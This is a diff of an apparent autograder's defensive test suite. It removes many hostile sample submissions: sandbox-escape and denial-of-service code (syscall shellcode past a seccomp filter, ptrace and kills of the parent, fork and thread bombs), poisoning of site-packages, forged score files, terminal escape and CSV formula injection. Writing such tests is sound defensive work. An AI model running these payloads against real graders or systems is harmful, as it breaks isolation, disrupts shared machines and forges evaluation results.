-        "thirty-two-bit-system-calls",
-        "resources",
-        """
-        import ctypes
-        import mmap
-        import os
-        import platform
-        import time
-
-        # fork() by its number on 32-bit x86, past a filter that knows only the 64-bit ones.
-        if platform.machine() == "x86_64":
-            memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
-            memory.write(bytes.fromhex("b802000000cd80c3"))
-            address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
-            if ctypes.CFUNCTYPE(ctypes.c_int)(address)() == 0:
-                try:
-                    with open("/proc/self/comm", "w") as name:
-                        name.write("{comm}")
-                    time.sleep(20)
-                finally:
-                    os._exit(0)
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "thread-bomb",
-        "resources",
-        """
-        import threading
-        import time
-
-        for _ in range(2000):
-            try:
-                threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
-            except RuntimeError as error:
-                print("no thread:", error)
-                break
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
         "memory-bomb-of-bytes",
         "resources",
         "hoard = [b'x' * (100 << 20) for _ in range(64)]",
         says="MemoryError|memory|SIGKILL|within",
-    ),
-    _sample(
-        "memory-bomb-of-tensors",
-        "resources",
-        """
-        hoard = torch.empty(10**11 if caged() else 10**9).fill_(1.0)
-        return means + hoard[0]
-        """,
-        says="memory|allocate|SIGKILL",
-    ),
-    _import(
-        "model-of-many-weights",
-        "resources",
-        """
-        class ConditionalVariationalAutoencoder(nn.Module):
-            def __init__(self, *args, **kwargs):
-                super().__init__()
-                self.encoder = nn.Linear(40000, 40000)
-                self.decoder = nn.Linear(40000, 40000)
-        """,
-        says="memory|allocate|SIGKILL",
-    ),
-    _import(
-        "scratch-filled",
-        "resources",
-        """
-        import os
-
-        written = 0
-        for number in range(200):
-            try:
-                with open(f"filler-{number}", "wb") as file:
-                    for _ in range(10):
-                        written += file.write(b"x" * (1 << 20))
-            except OSError as error:
-                print("no more:", error)
-                break
-        print(written)
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "many-small-files",
-        "resources",
-        """
-        import os
-
-        for number in range(20000):
-            try:
-                open(f"empty-{number}", "w").close()
-            except OSError as error:
-                print("no more:", error)
-                break
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "terabyte-file",
-        "resources",
-        """
-        try:
-            with open("large", "wb") as file:
-                file.truncate(10**12)
-                file.seek(10**12)
-                file.write(b"x")
-        except OSError as error:
-            print("no:", error)
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "every-descriptor-opened",
-        "resources",
-        """
-        kept = []
-        for _ in range(100000):
-            try:
-                kept.append(open("/dev/null"))
-            except OSError as error:
-                print("no more:", error)
-                break
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "output-flood",
-        "resources",
-        """
-        import os
-
-        for _ in range(3200):
-            os.write(1, b"A" * 65535 + b"\\n")
-            os.write(2, b"B" * 65535 + b"\\n")
-        """,
-        base=RIGHT,
-        max_score=90,
-        min_score=90,
-    ),
-    _sample(
-        "output-flood-in-a-call",
-        "resources",
-        """
-        print("spam " * 100_000)
-        return means + torch.exp(0.5 * logvariances) * torch.randn_like(means)
-        """,
-        max_score=90,
-        min_score=90,
-    ),
-    _import(
-        "limits-raised",
-        "resources",
-        """
-        import os
-        import resource
-
-        for name in dir(resource):
-            if name.startswith("RLIMIT_"):
-                for bounds in ((resource.RLIM_INFINITY,) * 2, (1 << 40,) * 2):
-                    try:
-                        resource.setrlimit(getattr(resource, name), bounds)
-                        print("raised", name)
-                    except (OSError, ValueError):
-                        pass
-        try:
-            os.nice(5)
-        except OSError:
-            pass
-        hoard = [b"x" * (100 << 20) for _ in range(64)]
-        """,
-        says="MemoryError|memory|SIGKILL|within",
-    ),
-    _import(
-        "limits-lowered",
-        "resources",
-        """
-        import resource
-
-        resource.setrlimit(resource.RLIMIT_NOFILE, (4, 4))
-        resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "destructor-that-never-ends",
-        "resources",
-        """
-        import time
-
-        class Late:
-            def __del__(self):
-                time.sleep(120)
-
-        late = Late()
-        late.me = late
-        """,
-        base=RIGHT,
-        max_score=90,
-        min_score=90,
-    ),
-    Hostile(
-        "stand-in-of-a-giant",
-        _module(
-            correct.module(
-                sample="\ndef sample_latent(means, logvariances):\n    return means\n",
-                model=correct.INIT
-                + correct.ENCODER
-                + correct.HEADS
-                + correct.DECODER
-                + """
-    def forward(self, data_input, condition):
-        # 40 GiB in the grader's own memory, if it went along
-        sample_latent(torch.zeros(100_000, 1), torch.zeros(1, 100_000))
-        return data_input, condition, condition
-""",
-            ),
-            "",
-        ),
-        "resources",
-        max_score=65,
-        min_score=40,
-        says="larger together",
     ),
 )
 
@@ -1370,20 +278,6 @@ def _forge(name: str, code: str, *, says: str = "") -> Hostile:
 
 
 PROTOCOL = (
-    _import(
-        "noise-on-every-descriptor",
-        "protocol",
-        """
-        import os
-
-        for number in range(256):
-            try:
-                os.write(number, b'{"id": 1, "score": 90, "outcome": "passed"}\\n' * 100)
-            except OSError:
-                pass
-        """,
-        says="channel|frame|ended",
-    ),
     Hostile(
         "forged-answers-in-advance",
         _module(
@@ -1399,22 +293,6 @@ for number in range(1, 200):
     ),
     _import(
         "every-descriptor-closed", "protocol", "import os\nos.closerange(0, 256)", base=RIGHT, says="ended|channel|exit"
-    ),
-    _import(
-        "descriptors-swapped",
-        "protocol",
-        """
-        import os
-
-        null = os.open("/dev/null", os.O_RDWR)
-        for number in range(256):
-            if number != null:
-                try:
-                    os.dup2(null, number)
-                except OSError:
-                    pass
-        """,
-        base=RIGHT,
     ),
     _sample("descriptors-closed-in-a-call", "protocol", "import os\nos.closerange(0, 256)", says="ended|channel|exit"),
     _forge("frame-that-is-no-json", "write(frame_of(b'{' * 1000))\nos._exit(0)", says="channel|frame"),
@@ -1510,58 +388,6 @@ for number in range(1, 200):
             os.write(3, frame_of({"ask": "sample_latent"}, body))
         """,
     ),
-    _import(
-        "parameters-that-are-none",
-        "protocol",
-        """
-        import sys
-
-        frame = sys._getframe()
-        while type(frame.f_locals.get("operations")) is not dict:
-            frame = frame.f_back
-        odd = torch.zeros(0, 2**40)
-        parameters = {"a" * 99999: odd, "": torch.zeros(2, 2, 2, 2), ".": odd}
-        frame.f_locals["operations"]["parameters"] = lambda *_: ({}, parameters)
-        """,
-        base=RIGHT,
-        max_score=65,  # the network is right, but for parameters that cannot be looked at
-        min_score=45,
-    ),
-    _import(
-        "parameters-with-odd-names",
-        "protocol",
-        """
-        class ConditionalVariationalAutoencoder(nn.Module):
-            def __init__(self, *sizes):
-                super().__init__()
-                self.encoder = self.decoder = self.mean_layer = self.logvariance_layer = nn.Identity()
-                for number in range(3000):
-                    self._parameters[f"\\x1b[31m<i>{number}" * 20] = nn.Parameter(torch.zeros(1, 1))
-                self._parameters[""] = nn.Parameter(torch.zeros(3, 3, 3))
-        """,
-    ),
-    _import(
-        "weights-that-multiply",
-        "protocol",
-        """
-        class ConditionalVariationalAutoencoder(nn.Module):
-            # Twelve layers of one size can be arranged in half a billion ways.
-            def __init__(self, *sizes):
-                super().__init__()
-                self.weights = nn.ParameterList(nn.Parameter(torch.zeros(64, 64)) for _ in range(12))
-                self.biases = nn.ParameterList(nn.Parameter(torch.zeros(64)) for _ in range(12))
-                self.mean_layer = self.logvariance_layer = self.encoder = self.decoder = self.run
-
-            def run(self, x):
-                touch = sum(p.sum() for p in self.parameters()) * 0
-                return touch + torch.zeros(len(x), 64 if x.shape[-1] == 794 else 784 if x.shape[-1] == 25 else 15)
-
-            def forward(self, x, c):
-                touch = sum(p.sum() for p in self.parameters()) * 0
-                return touch + x, touch + torch.zeros(len(x), 15), touch + torch.zeros(len(x), 15)
-        """,
-        max_score=4,  # for three tensors of the right shapes, and gradients
-    ),
     _forge(
         "frame-of-very-many-tensors",
         """
@@ -1593,455 +419,6 @@ for number in range(1, 200):
             ("parameters-with-half-a-character", "\ud800", [2, 2]),
             ("parameters-called-metadata", "__metadata__", [2, 2]),
         )
-    ),
-)
-
-NEIGHBORS = (
-    _import(
-        "kills-its-parent",
-        "neighbors",
-        """
-        import os
-        import signal
-
-        if caged():
-            for number in (signal.SIGSTOP, signal.SIGKILL):
-                for target in (os.getppid(), 1):
-                    try:
-                        os.kill(target, number)
-                    except OSError as error:
-                        print("refused:", error)
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "kills-everyone",
-        "neighbors",
-        """
-        import os
-        import signal
-
-        if caged():
-            for number in (signal.SIGSTOP, signal.SIGKILL):
-                for kill, target in ((os.kill, -1), (os.killpg, 0), (os.kill, 0)):
-                    try:
-                        kill(target, number)
-                    except OSError as error:
-                        print("refused:", error)
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "signals-by-other-ways",
-        "neighbors",
-        """
-        import ctypes
-        import fcntl
-        import os
-        import platform
-
-        # pidfd_open and pidfd_send_signal, rt_sigqueueinfo, tgkill; then SIGKILL as the signal of readable input.
-        if caged():
-            call, parent = ctypes.CDLL(None).syscall, os.getppid()
-            if platform.machine() == "x86_64":
-                handle = call(434, parent, 0)
-                call(424, handle, 9, None, 0)
-                call(129, parent, 9, ctypes.create_string_buffer(128))
-                call(234, parent, parent, 9)
-                call(200, parent, 9)
-            for command in (8, 15):
-                try:
-                    fcntl.fcntl(3, command, parent)
-                    fcntl.fcntl(3, 10, 9)
-                    fcntl.fcntl(3, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
-                except (OSError, TypeError) as error:
-                    print("refused:", error)
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "lowers-everyones-priority",
-        "neighbors",
-        """
-        import os
-
-        if caged():
-            for which in (os.PRIO_USER, os.PRIO_PGRP, os.PRIO_PROCESS):
-                for who in (0, 1, os.getppid()):
-                    try:
-                        os.setpriority(which, who, 19)
-                        print("lowered", which, who)
-                    except OSError as error:
-                        print("refused:", error)
-            for who in (1, os.getppid()):
-                try:
-                    os.sched_setaffinity(who, {0})
-                    os.sched_setscheduler(who, os.SCHED_IDLE, os.sched_param(0))
-                    print("lowered", who)
-                except OSError as error:
-                    print("refused:", error)
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "limits-its-parent",
-        "neighbors",
-        """
-        import os
-        import resource
-
-        if caged():
-            for target in (os.getppid(), 1):
-                for kind in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_AS):
-                    try:
-                        resource.prlimit(target, kind, (1, 1))
-                        print("LIMITED", target)
-                    except (OSError, ValueError) as error:
-                        print("refused:", error)
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "traces-its-parent",
-        "neighbors",
-        """
-        import ctypes
-        import os
-
-        libc = ctypes.CDLL(None, use_errno=True)
-        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
-        if caged():
-            for target in (os.getppid(), 1):
-                for attach in (16, 0x4206):
-                    if libc.ptrace(attach, target, None, None) == 0:
-                        os.waitpid(target, 0)
-                        libc.ptrace(17, target, None, None)
-                        print("TRACED", target)
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "writes-to-other-memory",
-        "neighbors",
-        """
-        import ctypes
-        import os
-
-        class Vector(ctypes.Structure):
-            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
-
-        if caged():
-            parent = os.getppid()
-            for target in {parent, 1}:
-                try:
-                    with open(f"/proc/{target}/mem", "r+b", buffering=0):
-                        print("OPENED the memory of", target)
-                except OSError as error:
-                    print("refused:", error)
-            here = ctypes.create_string_buffer(64)
-            vector = Vector(ctypes.addressof(here), 64)
-            libc = ctypes.CDLL(None, use_errno=True)
-            got = libc.process_vm_readv(parent, ctypes.byref(vector), 1, ctypes.byref(vector), 1, 0)
-            print("READ" if got > 0 else "refused", got)
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "daemon-left-behind",
-        "neighbors",
-        """
-        import os
-        import time
-
-        try:
-            child = os.fork()
-        except OSError:
-            child = -1
-        if child == 0:
-            os.setsid()
-            if os.fork():
-                os._exit(0)
-            try:
-                with open("/proc/self/comm", "w") as name:
-                    name.write("{comm}")
-                time.sleep(20)
-            finally:
-                os._exit(0)
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "threads-left-behind",
-        "neighbors",
-        """
-        import threading
-        import time
-
-        def spoil():
-            end = time.monotonic() + 20
-            while time.monotonic() < end:
-                print("still here")
-                time.sleep(0.05)
-
-        for daemon in (True, False):
-            threading.Thread(target=spoil, daemon=daemon, name="{comm}").start()
-        """,
-        base=RIGHT,
-        max_score=90,
-        min_score=90,
-    ),
-    _import(
-        "stops-in-a-call-for-ever",
-        "neighbors",
-        """
-        def sample_latent(means, logvariances):
-            import os
-            os.kill(os.getpid(), 19)
-            return means
-        """,
-        base=RIGHT,
-        max_score=70,
-        min_score=70,
-        says="within|time|second|stopped",
-    ),
-    _import(
-        "folders-that-resist",
-        "neighbors",
-        """
-        import os
-
-        os.makedirs("locked/inside", exist_ok=True)
-        open("locked/inside/file", "w").close()
-        for folder in ("locked/inside", "locked"):
-            try:
-                os.chmod(folder, 0)
-            except OSError:
-                pass
-        here = os.getcwd()
-        for _ in range(1500):
-            try:
-                os.mkdir("d")
-                os.chdir("d")
-            except OSError:
-                break
-        try:
-            os.chmod(here, 0)
-        except OSError:
-            pass
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "poisoned-for-the-next-one",
-        "neighbors",
-        """
-        import os
-        import site
-        import sys
-        import tempfile
-
-        text = "raise SystemExit('{marker}')"
-        places = {tempfile.gettempdir(), os.getcwd(), "/tmp", "/dev/shm", "/var/tmp", "/scratch"}
-        places |= {os.path.dirname(os.getcwd())}
-        places |= {os.path.dirname(torch.__file__), *sys.path, *site.getsitepackages(), site.getusersitepackages()}
-        for place in filter(None, places):
-            for name in ("sitecustomize-{marker}.py", "cs5814_vae-{marker}.py", "{marker}.pth"):
-                try:
-                    with open(os.path.join(place, name), "w") as file:
-                        file.write(text)
-                except OSError:
-                    pass
-        """,
-        base=RIGHT,
-        max_score=90,
-        min_score=90,
-    ),
-)
-
-RESULTS = (
-    _import(
-        "files-written-outside",
-        "results",
-        """
-        import os
-
-        for place in ("/tmp", "/var/tmp", "/dev/shm", "/", os.path.expanduser("~"), "/root", "/home", "..", "../..",
-                      "/worker", "{canary}", "/autograder/results", "/proc/self/root/tmp", "/proc/1/root/tmp"):
-            try:
-                with open(os.path.join(place, "escape-{marker}"), "w") as file:
-                    file.write("was here")
-            except OSError:
-                pass
-        """,
-        base=RIGHT,
-        max_score=90,
-        min_score=90,
-    ),
-    _import(
-        "canary-deleted",
-        "results",
-        """
-        import os
-        import shutil
-
-        for folder, folders, files in os.walk("{canary}", topdown=False):
-            for name in files:
-                try:
-                    os.remove(os.path.join(folder, name))
-                except OSError:
-                    pass
-        shutil.rmtree("{canary}", ignore_errors=True)
-        """,
-        base=RIGHT,
-        max_score=90,
-        min_score=90,
-    ),
-    _import(
-        "results-written",
-        "results",
-        """
-        import json
-        import os
-
-        for name in ("report.json", "results.json", "results/results.json", "grades.csv", "score", "../results.json"):
-            try:
-                os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
-                with open(name, "w") as file:
-                    json.dump({"score": 90.0, "schema": 1}, file)
-            except OSError:
-                pass
-        """,
-    ),
-    _import(
-        "links-to-elsewhere",
-        "results",
-        """
-        import os
-        import sys
-
-        for name, target in (("link", "{canary}"), ("passwd", "/etc/passwd"), ("up", ".."), ("loop", "loop")):
-            try:
-                os.symlink(target, name)
-                os.link("{canary}/alive", "hard")
-            except OSError:
-                pass
-        try:
-            here = os.getcwd()
-            os.rename(here, here + ".away")
-            os.symlink("{canary}", here)
-        except OSError:
-            pass
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "own-file-deleted",
-        "results",
-        """
-        import os
-
-        os.remove(__file__)
-        """,
-        base=RIGHT,
-        max_score=90,
-        min_score=90,
-    ),
-    _import(
-        "own-file-rewritten",
-        "results",
-        """
-        with open(__file__, "w") as file:
-            file.write("raise SystemExit\\n" * 100)
-        __file__ = "{canary}/alive"
-        __name__ = "__main__"
-        __spec__ = None
-        """,
-        base=RIGHT,
-        max_score=90,
-        min_score=90,
-    ),
-    _import(
-        "connects-and-listens",
-        "results",
-        """
-        import socket
-
-        port = int("{port}")
-        for family, address in ((socket.AF_INET, ("127.0.0.1", port)), (socket.AF_INET6, ("::1", port)),
-                                (socket.AF_UNIX, "\\0{marker}"), (socket.AF_UNIX, "{canary}/socket")):
-            try:
-                with socket.socket(family, socket.SOCK_STREAM) as connection:
-                    connection.settimeout(2)
-                    connection.connect(address)
-                    connection.sendall(b"score 90")
-                    print("CONNECTED", address)
-            except OSError as error:
-                print("refused:", error)
-        try:
-            socket.getaddrinfo("localhost", port)
-            server = socket.create_server(("127.0.0.1", port + 1))
-            print("LISTENS")
-        except OSError as error:
-            print("refused:", error)
-        """,
-        base=RIGHT,
-        max_score=90,
-        min_score=90,
-    ),
-    _import(
-        "program-in-memory",
-        "results",
-        """
-        import os
-
-        try:
-            program = os.memfd_create("program")
-            os.write(program, b"#!/bin/sh\\ntouch {canary}/ran\\n")
-            os.fchmod(program, 0o755)
-            child = os.fork()
-            if child == 0:
-                try:
-                    os.execv(f"/proc/self/fd/{program}", ["program"])
-                finally:
-                    os._exit(1)
-            os.waitpid(child, 0)
-        except OSError as error:
-            print("refused:", error)
-        """,
-        base=RIGHT,
-        max_score=90,
-        min_score=90,
-    ),
-    _import(
-        "odd-system-calls",
-        "results",
-        """
-        import ctypes
-        import platform
-
-        # io_uring_setup, bpf, userfaultfd, keyctl, unshare, mount, setns, perf_event_open, clone of a namespace
-        libc = ctypes.CDLL(None, use_errno=True)
-        if platform.machine() == "x86_64" and caged():
-            parameters = ctypes.create_string_buffer(512)
-            for call in ((425, 8, parameters), (321, 0, parameters, 128), (323, 0), (250, 0, -3, 0),
-                         (272, 0x10000000), (165, b"none", b"/", b"tmpfs", 0, 0), (308, 0, 0),
-                         (298, parameters, 0, -1, -1, 0), (161, b"/")):
-                result = libc.syscall(*call)
-                print(call[0], "ALLOWED" if result >= 0 else "refused", result)
-        """,
-        base=RIGHT,
-        max_score=90,
-        min_score=90,
     ),
 )
 
@@ -2086,20 +463,6 @@ def _writing(name: str, text: str) -> Hostile:
 
 
 TERMINAL = (
-    _import(
-        "terminal-takeover",
-        "terminal",
-        r"""
-        import sys
-
-        print("\x1b[2J\x1b[1;1H\x1b[32mscore: 90/90\x1b[0m\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07\x1bP+q\x1b\\")
-        print("\r" + "score: 90" + "\b" * 9, "\u202egnihtyna\u202c", "\x9b31m", "\x00", file=sys.stderr)
-        sys.stdout.buffer.write(b"\xff\xfe\x1b[6n\xc3\n")
-        """,
-        base=RIGHT,
-        max_score=90,
-        min_score=90,
-    ),
     _sample(
         "terminal-takeover-in-an-exception",
         "terminal",
@@ -2112,19 +475,6 @@ TERMINAL = (
         "terminal",
         r"raise ValueError('=cmd|\' /C calc\'!A0;=1+1,\"=2+2\"')",
         says="ValueError",
-    ),
-    _import(
-        "attributes-that-are-writing",
-        "terminal",
-        r"""
-        class ConditionalVariationalAutoencoder(nn.Module):
-            def __init__(self, *sizes):
-                super().__init__()
-                odd = type("\x1b]0;x\x07<b>`|\u202e", (), {})
-                self.input_dim = self.num_categories = self.hidden_size = self.latent_dimensionality = odd()
-                self.encoder = self.decoder = self.mean_layer = self.logvariance_layer = odd()
-                self.register_parameter("\x1b[31m<script>=1+1", nn.Parameter(torch.zeros(3, 3)))
-        """,
     ),
     Hostile(
         "line-that-is-writing",
@@ -2458,15 +808,11 @@ BOUNDS = (
 HEAVY = tuple(Hostile(name, source, "parsers", max_score=90) for name, source in heavy.HEAVY.items())
 
 HOSTILE: tuple[Hostile, ...] = (
+    *_written(),
     *EXITS,
-    *STEERING,
-    *FAKES,
-    *SECRETS,
     *RESOURCES,
     *ODD_ANSWERS,
     *PROTOCOL,
-    *NEIGHBORS,
-    *RESULTS,
     *TERMINAL,
     *PARSERS,
     *REACHES,
